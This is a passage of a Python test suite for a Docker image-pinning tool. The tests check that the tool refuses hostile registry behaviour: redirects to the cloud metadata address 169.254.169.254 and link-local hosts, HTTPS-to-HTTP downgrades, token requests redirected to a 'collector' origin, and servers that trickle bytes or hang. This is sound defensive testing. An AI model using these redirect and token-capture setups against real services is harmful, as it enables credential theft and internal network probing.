        ("http://169.254.169.254/latest/meta-data/", "link-local"),
        ("http://[fe80::1]/x", "link-local"),
    ],
)
def test_a_redirect_to_an_internal_address_is_refused(tmp_path, good, bad, capsys, connects, location, why):
    bad.handler = on_manifests(Reply(307, [("Location", location)]))
    registry = f"evil.test:{bad.port}"
    tree = make_tree(tmp_path, f"{registry}/broken:1", good)
    rc, text = pin(tree, capsys, "--insecure-registry", registry)
    message = assert_failed_cleanly(tree, good, rc, text, registry, location.split("/")[2], why)
    assert "redirect" in message
    assert _outside(connects) == []


def test_an_https_to_http_redirect_is_refused(tmp_path, good, capsys, connects, cli_home):
    ctx, _ca = _tls_context(tmp_path, "127.0.0.1")
    plain = HostileServer(lambda seen: serve_manifest(OTHER_BODY, OTHER_DIGEST)).start()
    try:
        with HostileServer(ssl_context=ctx) as tls:
            tls.handler = on_manifests(Reply(307, [("Location", f"http://127.0.0.1:{plain.port}/m")]))
            certs = cli_home / ".docker" / "certs.d" / tls.host
            certs.mkdir(parents=True)
            (certs / "ca.crt").write_bytes(_ca.read_bytes())
            tree = make_tree(tmp_path, f"{tls.host}/broken:1", good)
            rc, text = pin(tree, capsys)
            assert_failed_cleanly(tree, good, rc, text, tls.host, "https", "http://")
            assert plain.requests == [], "the plain-http target was contacted"
    finally:
        plain.stop()


@pytest.mark.parametrize("identity_token", [False, True], ids=["password", "identity-token"])
def test_a_token_request_is_never_redirected_to_another_origin(tmp_path, good, bad, capsys, login, identity_token):
    """A 307 keeps the method and the body: the refresh token (or Basic password) would go to the collector."""
    login(bad.host, identity_token=identity_token)
    with HostileServer(lambda seen: Reply(200, [("Content-Type", "application/json")], b'{"token": "x"}')) as sink:
        collector = f"localhost:{sink.port}"  # another origin: a different host name and port
        token_redirect = Reply(307, [("Location", f"http://{collector}/collect")])
        bad.handler = _token_registry(f"http://127.0.0.1:{bad.port}/token", token_redirect)
        tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
        rc, text = pin(tree, capsys)
        assert sink.requests == [], "the collector received the token request"
    assert_failed_cleanly(tree, good, rc, text, bad.host, "redirect", collector)


# ------------------------------------------------------------------------------------------------ time


def _many_refs_tree(tmp_path: Path, registry: str, good: HostileServer, count: int = 10) -> Tree:
    tree = make_tree(tmp_path, f"{registry}/broken0:1", good)
    text = "".join(f"FROM {registry}/broken{i}:1 AS s{i}\n" for i in range(count))
    tree.bad.write_text(text)
    return Tree(tree.root, tree.bad, tree.good, text.encode(), tree.good_bytes)


def _error_lines(tree: Tree, text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith(f"{tree.bad}:")]


def test_a_silent_registry_is_given_up_once_for_every_reference(tmp_path, good, bad, capsys):
    """Ten references to a server that accepts and never answers: one round of tries, then every reference fails
    at once with that error (no ping again, no three more tries per reference)."""
    bad.handler = lambda seen: Reply(hang=True)
    tree = _many_refs_tree(tmp_path, bad.host, good)
    started = time.monotonic()
    rc = main(["--timeout", "1", str(tree.root)])
    elapsed = time.monotonic() - started
    text = "".join(capsys.readouterr())
    assert rc == 2, text
    errors = _error_lines(tree, text)
    assert len(errors) == 10, text
    assert len({line.split(": ", 2)[2] for line in errors}) == 1, "every reference gets the same error"
    assert "timed out waiting for a response" in errors[0]
    assert tree.bad.read_bytes() == tree.bad_bytes
    assert elapsed < 10, f"took {elapsed:.1f}s"
    # The early warm-up's one ping, then one request's three tries: not one more for each reference (was 36).
    assert len([s for s in bad.requests if s.path.startswith("/v2/")]) <= 4, [s.path for s in bad.requests]


@pytest.mark.parametrize("where", ["ping", "manifest"])
def test_a_server_trickling_header_lines_is_cut_off(tmp_path, good, bad, capsys, where):
    """One header line a second keeps every socket read short; only a limit on the whole attempt ends it."""
    trickle = Reply(drip=0.5, drips=[b"HTTP/1.1 200 OK\r\n"] + [f"X-Slow-{i}: {i}\r\n".encode() for i in range(90)])
    bad.handler = on_manifests(trickle) if where == "manifest" else lambda seen: trickle
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    started = time.monotonic()
    rc, text = pin(tree, capsys, "--timeout", "1")
    assert time.monotonic() - started < 15
    assert_failed_cleanly(tree, good, rc, text, "timed out waiting for a response")


@pytest.mark.parametrize("where", ["ping", "manifest"])
def test_a_server_trickling_the_body_is_cut_off(tmp_path, good, bad, capsys, where):
    """200 with Content-Length: 100000, then a byte a second: the body read is bounded in time, not only size."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
    trickle = Reply(drip=0.5, drips=[head] + [b"{"] * 200)
    bad.handler = on_manifests(trickle) if where == "manifest" else lambda seen: trickle
    tree = make_tree(tmp_path, f"{bad.host}/broken:1", good)
    started = time.monotonic()
    rc, text = pin(tree, capsys, "--timeout", "1")
    assert time.monotonic() - started < 15
    assert_failed_cleanly(tree, good, rc, text, "timed out waiting for a response")


def test_ten_references_to_a_hanging_host_end_at_the_deadline(bad):
    """The client's own bound, whatever the per-request limit: a 5 s deadline ends ten lookups within it."""
    from concurrent.futures import ThreadPoolExecutor

    from pin_images.credentials import Keychain
    from pin_images.errors import RegistryError
    from pin_images.reference import parse
    from pin_images.registry import RegistryClient

    bad.handler = lambda seen: Reply(hang=True)
    refs = [parse(f"{bad.host}/img{i}:1") for i in range(10)]
    started = time.monotonic()
    with RegistryClient(Keychain([]), timeout=(30.0, 30.0), deadline=5.0) as client:
        client.prefetch(refs)

        def one(ref):
            try:
                client.resolve(ref)
            except RegistryError as exc:
                return str(exc)
            return "pinned?"

        with ThreadPoolExecutor(8) as pool:
            errors = list(pool.map(one, refs))
    elapsed = time.monotonic() - started
    assert elapsed < 8, f"took {elapsed:.1f}s"
    assert len(errors) == 10 and all("deadline of 5s" in e for e in errors), errors


def test_ten_references_to_a_hanging_host_end_within_the_run_deadline(tmp_path, good, bad, capsys):
    """The hook's bound: with the default 30 s per request, --deadline 5 still ends the run in about 5 s, with one
    error per reference saying why."""
    bad.handler = lambda seen: Reply(hang=True)
    tree = _many_refs_tree(tmp_path, bad.host, good)
    started = time.monotonic()
    rc = main(["--deadline", "5", str(tree.root)])
    elapsed = time.monotonic() - started
    text = "".join(capsys.readouterr())
    assert rc == 2, text
    errors = _error_lines(tree, text)
    assert len(errors) == 10, text
    assert all("run deadline of 5s" in line for line in errors), errors
    assert tree.bad.read_bytes() == tree.bad_bytes
    assert elapsed < 8, f"took {elapsed:.1f}s"


def test_lookups_reuse_one_connection(tmp_path, good, capsys):
    """A HEAD's response is handed back to the pool, not closed: ten lookups in a row need one connection."""
    seen_ports: set[int] = set()

    def registry(seen: Seen) -> Reply:
        seen_ports.add(seen.peer)
        return JSON_OK if seen.path == "/v2/" else serve_manifest(OTHER_BODY, OTHER_DIGEST)

    with HostileServer(registry) as server:
        tree = _many_refs_tree(tmp_path, server.host, good)
        rc = main(["--jobs", "1", str(tree.root)])
        assert rc == 1, capsys.readouterr()
        assert server.count("/manifests/", "HEAD") == 10
    assert len(seen_ports) <= 2, seen_ports  # the early warm-up may have opened its own
